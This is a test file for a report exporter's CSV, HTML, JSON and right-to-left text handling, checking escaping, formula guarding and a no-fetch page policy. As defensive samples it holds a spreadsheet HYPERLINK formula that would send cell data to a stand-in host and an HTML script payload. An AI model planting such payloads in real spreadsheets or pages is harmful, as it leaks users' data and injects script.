import fc from 'fast-check';
import { csvField, csvRecord, reportCsv } from '../../../src/reports/reportCsv';
import type { ReportDocument } from '../../../src/reports/reportDocument';
import { escapeHtml, reportHtml } from '../../../src/reports/reportHtml';
import { reportJson } from '../../../src/reports/reportJson';
import { visualOrder } from '../../../src/reports/visualOrder';

/** A reader of RFC 4180 records, written from the RFC's grammar: the inverse csvRecord must have. */
function readRecords(text: string): string[][] {
  const records: string[][] = [];
  let fields: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i += 1;
      for (;;) {
        if (text[i] === '"' && text[i + 1] === '"') {
          field += '"';
          i += 2;
        } else if (text[i] === '"') {
          i += 1;
          break;
        } else field += text[i++];
      }
    } else while (i < text.length && text[i] !== ',' && text[i] !== '\r') field += text[i++];
    fields.push(field);
    if (text[i] === ',') i += 1;
    else {
      expect(text.slice(i, i + 2)).toBe('\r\n');
      i += 2;
      records.push(fields);
      fields = [];
    }
  }
  return records;
}

function documentWith(rows: string[][], title = 'T'): ReportDocument {
  return {
    kind: 'job',
    title,
    generatedAt: '2026-12-07T00:00:00.000Z',
    facts: [{ label: 'Job', value: '1' }],
    sections: [{ id: 'files', title: 'Files', table: { columns: ['File', 'xxh64'], count: rows.length, rows: () => rows } }],
    csvSection: 'files',
  };
}

describe('CSV by RFC 4180', () => {
  it('quotes a field that holds a quote, comma or line break, and doubles its quotes', () => {
    expect(csvField('plain.mov')).toBe('plain.mov');
    expect(csvField('A001 "take 2", final.mov')).toBe('"A001 ""take 2"", final.mov"');
    expect(csvField('line\nbreak')).toBe('"line\nbreak"');
    expect(csvField('cr\rhere')).toBe('"cr\rhere"');
    expect(csvField(' padded ')).toBe('" padded "');
  });

  it("gives back every record of any text, once the formula guard's leading ' is removed", () => {
    const unguarded = (field: string): string => (field.startsWith("'") ? field.slice(1) : field);
    fc.assert(
      fc.property(fc.array(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 5 }), { maxLength: 6 }), (records) => {
        expect(readRecords(records.map(csvRecord).join('')).map((r) => r.map(unguarded))).toEqual(records);
      }),
    );
  });

  it("keeps a value a spreadsheet would run as a formula as text: a leading ' before = + - @ TAB CR (and ' itself)", () => {
    expect(csvField('=HYPERLINK("http://x.test/?"&A1,"open")')).toBe(`"'=HYPERLINK(""http://x.test/?""&A1,""open"")"`);
    expect(csvField('+1')).toBe("'+1");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\tcmd')).toBe("'\tcmd");
    expect(csvField('\rcmd')).toBe(`"'\rcmd"`);
    expect(csvField("'quoted")).toBe("''quoted");
    expect(csvField('/Volumes/MEDIA/=HYPERLINK(1).mov')).toBe('/Volumes/MEDIA/=HYPERLINK(1).mov');
    expect(csvField('a=b')).toBe('a=b');
    fc.assert(
      fc.property(fc.array(fc.string(), { minLength: 1, maxLength: 5 }), (fields) => {
        for (const cell of readRecords(csvRecord(fields))[0]!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
  });

  it('starts with a byte-order mark and the header', () => {
    const text = [...reportCsv(documentWith([['a,b', 'ff']]))].join('');
    expect(text).toBe('\uFEFFFile,xxh64\r\n"a,b",ff\r\n');
  });
});

describe('HTML', () => {
  it('escapes every character that could start markup', () => {
    expect(escapeHtml(`<script>alert("x") & 'y'</script>`)).toBe('&lt;script&gt;alert(&quot;x&quot;) &amp; &#39;y&#39;&lt;/script&gt;');
  });

  it('never lets a name or title open a tag, whatever it holds', () => {
    fc.assert(
      fc.property(fc.string(), fc.string(), (name, title) => {
        const html = [...reportHtml(documentWith([[name, '0123456789abcdef']], title))].join('');
        const body = html.slice(html.indexOf('</style>'));
        // The page's own tags only: every < in a name became &lt;.
        expect(body.match(/<script|<img|<iframe|<link/gi)).toBeNull();
        expect(html).toContain(`<td>${escapeHtml(name)}</td>`);
      }),
    );
  });

  it('fetches nothing: no external resource, a policy that forbids any', () => {
    const html = [...reportHtml(documentWith([['x', 'y']]))].join('');
    expect(html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'"`);
    expect(html).not.toMatch(/\b(src|href)="(?!#)/);
  });
});

describe('JSON', () => {
  it('is the document with each table’s rows', () => {
    const rows = [['a"b\n', 'ff']];
    expect(JSON.parse([...reportJson(documentWith(rows))].join(''))).toEqual({
      kind: 'job',
      title: 'T',
      generatedAt: '2026-12-07T00:00:00.000Z',
      facts: [{ label: 'Job', value: '1' }],
      csvSection: 'files',
      sections: [{ id: 'files', title: 'Files', table: { columns: ['File', 'xxh64'], rows } }],
    });
  });
});

describe('visualOrder', () => {
  it('reverses each right-to-left run and drops bidirectional marks', () => {
    expect(visualOrder('/Media/שלום עולם/clip.mov')).toBe('/Media/םלוע םולש/clip.mov');
    expect(visualOrder('a\u200F\u202Eb')).toBe('ab');
    expect(visualOrder('/Volumes/MEDIA/A001.mov')).toBe('/Volumes/MEDIA/A001.mov');
  });

  it('changes nothing in left-to-right text', () => {
    fc.assert(fc.property(fc.string({ unit: fc.constantFrom(...'abc/ .-_0189ÄÉ') }), (text) => expect(visualOrder(text)).toBe(text)));
  });
});
